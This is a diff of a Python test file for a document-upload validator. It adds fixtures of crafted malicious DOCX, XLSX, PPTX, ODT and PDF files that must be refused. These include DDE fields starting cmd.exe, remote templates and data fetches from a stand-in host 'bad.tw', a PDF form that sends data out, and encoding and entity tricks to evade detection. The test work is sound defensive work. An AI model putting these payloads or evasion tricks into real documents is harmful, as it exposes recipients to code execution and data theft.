@@ -37,9 +37,20 @@ def _kept(home: Path) -> list[Path]:
 
 
 GOOD = {
-    "報告.pdf": (uploads.pdf(), "application/pdf"),
+    "報告.pdf": (
+        uploads.pdf(b"3 0 obj << /S /URI /URI (https://a.tw) >> endobj", b"/OpenAction [2 0 R /Fit]"), "application/pdf",
+    ),
     "計畫.docx": (
-        uploads.docx({"word/_rels/document.xml.rels": '<Relationship Target="https://a.tw" TargetMode="External"/>'}),
+        uploads.docx({
+            "word/_rels/document.xml.rels": uploads.relations("hyperlink", "https://a.tw"),
+            "word/document.xml": uploads.document(
+                uploads.field(' HYPERLINK "https://a.tw" ') + uploads.field(" PAGE ") + uploads.field(" IF ", "{ DATE }")
+            ),
+            "word/media/image1.png": uploads.photo("PNG"),
+            "word/printerSettings/printerSettings1.bin": "HP LaserJet".encode("utf-16-le"),
+            "word/settings.xml": '\ufeff<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16-le"),
+            "docProps/empty.xml": "",
+        }),
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     ),
     "簡報.pptx": (
@@ -52,7 +63,23 @@ GOOD = {
         }),
         "application/vnd.openxmlformats-officedocument.presentationml.presentation",
     ),
-    "計畫.odt": (uploads.odt(), "application/vnd.oasis.opendocument.text"),
+    "預算.xlsx": (
+        uploads.package({
+            "[Content_Types].xml": uploads.OOXML_TYPES.format(""), "xl/workbook.xml": "<x/>",
+            "xl/externalLinks/_rels/externalLink1.xml.rels": uploads.relations("externalLinkPath", "file:///C:/預算.xlsx"),
+            "xl/drawings/vmlDrawing1.vml": '<xml xmlns:v="urn:v"><v:fill src="media/a.png"><br></v:fill></xml>',
+        }),
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+    ),
+    "計畫.odt": (
+        uploads.odt({
+            "content.xml": uploads.odf_content(
+                '<text:a xlink:href="https://a.tw">a</text:a><draw:image xlink:href="Pictures/a.png"/>'
+            ),
+            "Pictures/a.png": uploads.photo("PNG"), "layout-cache": b"\1\2", "Configurations2/images/": "",
+            "Configurations2/accelerator/current.xml": "",
+        }),
+        "application/vnd.oasis.opendocument.text"),
     "名單.csv": ("\ufeff姓名,村里\n某甲,水里\n".encode(), "text/csv"),
     "說明.txt": ("一段話\n".encode(), "text/plain"),
 }  # fmt: skip
@@ -79,9 +106,127 @@ def _entity_docx() -> bytes:
 
 
 def _template_docx() -> bytes:
-    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
-    rel = f'<Relationship Id="1" Type="{kind}" Target="http://bad.tw/x.dotm" TargetMode="External"/>'
-    return uploads.docx({"word/_rels/settings.xml.rels": f"<Relationships>{rel}</Relationships>"})
+    return uploads.docx(
+        {"word/_rels/settings.xml.rels": uploads.relations("attachedTemplate", "http://bad.tw/x.dotm")}
+    )
+
+
+def _hidden(part: str, text: str, code: str = "utf-16") -> bytes:
+    return uploads.docx({part: text.encode(code)})
+
+
+def _worded(*fields: str) -> bytes:
+    return uploads.docx({"word/document.xml": uploads.document("".join(fields))})
+
+
+def _sheet(part: str, content: bytes | str) -> bytes:
+    types = uploads.OOXML_TYPES.format("")
+    return uploads.package({"[Content_Types].xml": types, "xl/workbook.xml": "<x/>", part: content})
+
+
+SETTINGS = "word/_rels/settings.xml.rels"
+TYPES = "[Content_Types].xml"
+MACRO_TYPE = uploads.OOXML_TYPES.format(uploads.override("word.document.macroEnabled.main+xml"))
+# Written as nobody writes it who doesn't hide it: each was taken while parts were searched for bytes.
+HIDDEN = {
+    "macro type in utf-16": (
+        uploads.docx({TYPES: MACRO_TYPE.encode("utf-16"), "word/foo.bin": b"\1\2"}), "a.docx", "macros",
+    ),
+    "macro type in big-endian utf-16": (
+        uploads.docx({TYPES: b"\xfe\xff" + MACRO_TYPE.encode("utf-16-be")}), "a.docx", "macros",
+    ),
+    "macro type by references": (
+        uploads.docx({TYPES: MACRO_TYPE.replace("macroEnabled", "macro&#69;nabled")}), "a.docx", "macros",
+    ),
+    "a part of no known kind": (uploads.docx({"word/foo.bin": b"\1\2"}), "a.docx", "carried inside"),
+    "macros under another case": (uploads.docx({"word\\VBAPROJECT.BIN": b"\1"}), "a.docx", "macros"),
+    "a part given twice": (uploads.docx({"word/DOCUMENT.xml": uploads.document()}), "a.docx", "carried inside"),
+    "template in utf-16": (
+        _hidden(SETTINGS, uploads.relations("attachedTemplate", "http://bad.tw/x.dotm")), "a.docx", "loaded from elsewhere",
+    ),
+    "template in utf-16 without a mark": (
+        _hidden(SETTINGS, uploads.relations(
+            "attachedTemplate", "http://bad.tw/x.dotm", prologue='<?xml version="1.0"?>'), "utf-16-le"),
+        "a.docx", "loaded from elsewhere",
+    ),
+    "template by references": (
+        uploads.docx({SETTINGS: uploads.relations("&#97;ttachedTemplate", "http://bad.tw/x", mode="Ext&#x65;rnal")}),
+        "a.docx", "loaded from elsewhere",
+    ),
+    "template by an entity": (
+        _hidden(SETTINGS, uploads.relations(
+            "&t;", "http://bad.tw/x", prologue='<!DOCTYPE a [<!ENTITY t "attachedTemplate">]>')),
+        "a.docx", "XML declarations",
+    ),
+    "template by a default": (
+        uploads.docx({SETTINGS: uploads.relations("hyperlink", "http://bad.tw/x", prologue=(
+            '<!DOCTYPE a [<!ATTLIST Relationship TargetMode CDATA "External">]>'))}),
+        "a.docx", "XML declarations",
+    ),
+    "another encoding": (
+        _hidden(SETTINGS, '<?xml version="1.0" encoding="iso-8859-1"?><a/>', "ascii"), "a.docx", "XML declarations",
+    ),
+    "dde": (_worded(uploads.field(' DDEAUTO c:\\\\cmd.exe "/k calc" ')), "a.docx", "start other programs"),
+    "dde in many runs": (_worded(uploads.field(" D", "DEA", "UTO c:\\\\a ")), "a.docx", "start other programs"),
+    "dde by a field": (_worded(uploads.field("{ QUOTE 68 68 69 }", " c:\\\\a")), "a.docx", "start other programs"),
+    "simple dde": (_worded('<w:fldSimple w:instr="dde a b"/>'), "a.docx", "start other programs"),
+    "dde in a sheet": (_sheet("xl/externalLinks/externalLink1.xml", '<a><ddeLink ddeService="cmd"/></a>'), "a.xlsx",
+        "start other programs"),
+    "a text from elsewhere": (_worded(uploads.field(' INCLUDETEXT "http://bad.tw/x" ')), "a.docx", "loaded from elsewhere"),
+    "a picture of a field": (
+        _worded(uploads.field(' INCLUDEPICTURE "\\\\\\\\bad.tw\\\\x.png" ')), "a.docx", "loaded from elsewhere",
+    ),
+    "a picture from elsewhere": (
+        uploads.docx({"word/_rels/document.xml.rels": uploads.relations("image", "http://bad.tw/x.png")}),
+        "a.docx", "loaded from elsewhere",
+    ),
+    "a table from a share": (
+        _sheet("xl/externalLinks/_rels/a.xml.rels", uploads.relations("externalLinkPath", "file:///\\\\bad.tw\\x.xlsx")),
+        "a.xlsx", "loaded from elsewhere",
+    ),
+    "a formula that fetches": (
+        _sheet("xl/worksheets/sheet1.xml", "<s><f>_xlfn.WEBSERVICE(A1)</f></s>"), "a.xlsx", "loaded from elsewhere",
+    ),
+    "a query": (_sheet("xl/connections.xml", '<c><webPr url="http://bad.tw"/></c>'), "a.xlsx", "loaded from elsewhere"),
+    "a drawing from elsewhere": (
+        _sheet("xl/drawings/a.vml", '<xml><v:imagedata o:title="" src="//bad.tw/x.png"><br></xml>'), "a.xlsx",
+        "loaded from elsewhere",
+    ),
+    "a slide that starts a program": (
+        uploads.package({TYPES: uploads.OOXML_TYPES.format(""),
+            "ppt/slides/slide1.xml": '<a><hlinkClick action="ppaction://program?name=cmd"/></a>'}),
+        "a.pptx", "start other programs",
+    ),
+    "an archive behind a byte": (
+        uploads.docx({"word/embeddings/a.xlsx": b"\0" + uploads.package({"a": "a"})}), "a.docx", "carried inside",
+    ),
+    "an archive behind a picture": (
+        uploads.docx({"word/media/a.png": uploads.photo("PNG") + uploads.package({"a": "a"})}), "a.docx", "carried inside",
+    ),
+    "words under the name of a picture": (
+        uploads.docx({"word/media/a.png": uploads.document().encode("utf-16")}), "a.docx", "carried inside",
+    ),
+    "a page as a chunk": (uploads.docx({"word/afchunk.mht": "MIME-Version: 1.0"}), "a.docx", "carried inside"),
+    "no xml": (uploads.docx({"word/styles.xml": "<a>"}), "a.docx", "damaged"),
+    "a picture from elsewhere in odt": (
+        uploads.odt({"content.xml": uploads.odf_content('<draw:image xlink:href="http://bad.tw/x.png"/>')}), "a.odt",
+        "loaded from elsewhere",
+    ),
+    "a script called from odt": (
+        uploads.odt({"content.xml": uploads.odf_content(
+            '<script:event-listener xlink:href="vnd.sun.star.script:a.py?language=Python"/>').encode("utf-16")}),
+        "a.odt", "macros",
+    ),
+    "sending pdf": (
+        uploads.pdf(b"3 0 obj << /S /SubmitForm /F (http://bad.tw) >> endobj", b"/OpenAction 3 0 R"), "a.pdf", "sends data",
+    ),
+    "pdf that opens a share": (
+        uploads.pdf(b"3 0 obj << /S /GoToR /F (\\\\\\\\bad.tw\\\\x.pdf) /D [0] >> endobj", b"/OpenAction 3 0 R"), "a.pdf",
+        "opens other files",
+    ),
+    "pdf that opens what it carries": (uploads.pdf(b"3 0 obj << /S /GoTo#45 >> endobj"), "a.pdf", "opens other files"),
+    "importing pdf": (uploads.pdf(uploads.packed_object(b"3 0 << /S /ImportData >>")), "a.pdf", "reads other files"),
+}  # fmt: skip
 
 
 BAD = {
@@ -113,10 +258,10 @@ BAD = {
     "pdf bomb": (uploads.pdf(uploads.packed_object(b" " * 210_000_000)), "a.pdf", "too large when unpacked"),
     "cut pdf": (uploads.pdf()[:60], "a.pdf", "incomplete"),
     "macro docx": (uploads.docx({"word/vbaProject.bin": b"\0"}), "a.docx", "macros"),
-    "macro by type": (uploads.docx(types="application/vnd.ms-word.document.macroEnabled.main+xml"), "a.docx", "macros"),
+    "macro by type": (uploads.docx(types=uploads.override("word.document.macroEnabled.main+xml")), "a.docx", "macros"),
     "macro odt": (uploads.odt({"Basic/Standard/Module1.xml": "<m/>"}), "a.odt", "macros"),
     "script odt": (uploads.odt({"Scripts/python/a.py": "a"}), "a.odt", "macros"),
-    "encrypted odt": (uploads.odt(manifest="<m:encryption-data/>"), "a.odt", "password"),
+    "encrypted odt": (uploads.odt(manifest='<encryption-data xmlns="urn:m"/>'), "a.odt", "password"),
     "encrypted docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "a.docx", "password"),
     "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 50, "a.doc", "an old Office file"),
     "archive in docx": (uploads.docx({"word/media/a.png": uploads.package({"a": "a"})}), "a.docx", "carried inside"),
@@ -139,12 +284,12 @@ BAD = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("case", BAD)
+@pytest.mark.parametrize("case", [*BAD, *HIDDEN])
 def test_a_bad_upload_is_refused_in_words_and_leaves_nothing(home: Path, case: str) -> None:
     from difang.records.files import RefusedFileError
     from difang.records.models import File
 
-    content, name, words = BAD[case]
+    content, name, words = (BAD | HIDDEN)[case]
     with pytest.raises(RefusedFileError) as refused:
         _store(content, name)
     text = refused.value.text
@@ -248,12 +393,12 @@ def test_a_file_comes_back_as_an_attachment_that_runs_nothing(home: Path) -> Non
 
 
 def test_content_that_is_gone_is_a_fault_in_words(home: Path) -> None:
-    from difang.errors import FaultError
+    from difang.errors import MissingDataError
     from difang.records import files
 
     file = _store(b"a", "a.txt")
     _kept(home)[0].unlink()
-    with pytest.raises(FaultError, match=r"a\.txt"):
+    with pytest.raises(MissingDataError, match=r"a\.txt"):
         files.serve(file)
 
 
